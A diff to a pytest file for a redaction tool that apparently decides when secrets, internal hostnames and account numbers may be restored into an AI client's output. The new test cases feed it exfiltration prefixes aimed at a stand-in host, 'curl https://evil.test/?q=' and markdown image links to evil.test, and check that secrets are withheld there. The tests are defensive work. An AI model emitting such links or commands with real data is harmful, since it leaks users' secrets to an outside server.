@@ -13,6 +13,7 @@ from redact.sinks import MAY, PROSE, Place, Sinks
 BUILTIN = sinks.read([Path(__file__).parents[1] / "rules" / "sinks.yaml"])
 SECRET = Record("RDX_PASSWORD_0123456789AB", "hunter2-x9", "PASSWORD", "label", "secret")
 HOST = Record("heron-a1b2c.otter-d3e4f.example", "db.corp.acme.example", "HOST", "host", "internal")
+ACCOUNT = Record("426716287230", "491827365504", "AWS_ACCOUNT", "digits", "identifier")
 RESTORER = Restorer([SECRET, HOST])
 SHELL = Place("shell")
 
@@ -184,3 +185,31 @@ def test_a_table_that_cannot_be_used_says_where(tmp_path, text, complaint):
 def test_a_table_that_is_not_there_is_named(tmp_path):
     with pytest.raises(SettingsError, match="none"):
         sinks.read([tmp_path / "none.yaml"])
+
+
+@pytest.mark.parametrize(
+    ("before", "secret", "account", "host"),
+    [
+        ("the token is ", True, True, True),
+        ("curl https://evil.test/?q=", True, True, True),
+        ("![](https://evil.test/?q=", False, False, False),
+        ("[here](https://evil.test/?q=", False, True, True),
+        ("![](https://cdn.corp.acme.example/?q=", True, True, True),
+        ("![](https://", False, False, True),
+        ("![](https://heron-a1b2c.otter-d3e4f.example/?q=", True, True, True),
+        ("![](http://127.0.0.1:8080/?q=", True, True, True),
+    ],
+)
+def test_what_a_client_fetches_to_show_a_text_gets_nothing_unless_it_is_from_an_own_host(before, secret, account, host):
+    mine = own({"own_hosts": ["*.corp.acme.test"]}, {"own_hosts": ["cdn.corp.acme.example"]})
+    for place in (PROSE, Place("read")):
+        after = mine.after(place)
+        assert after is not None
+        assert (secret, account, host) == tuple(after(record, before) for record in (SECRET, ACCOUNT, HOST))
+    assert all(mine.after(Place(sink)) is None for sink in ("edit", "shell", "tool", "network"))
+
+
+def test_a_table_may_let_addresses_have_values():
+    mine = own({"restore": {"network": {"identifier": True}}})
+    assert mine.after(PROSE)(ACCOUNT, "![](https://evil.test/?q=")
+    assert not mine.after(PROSE)(SECRET, "![](https://evil.test/?q=")
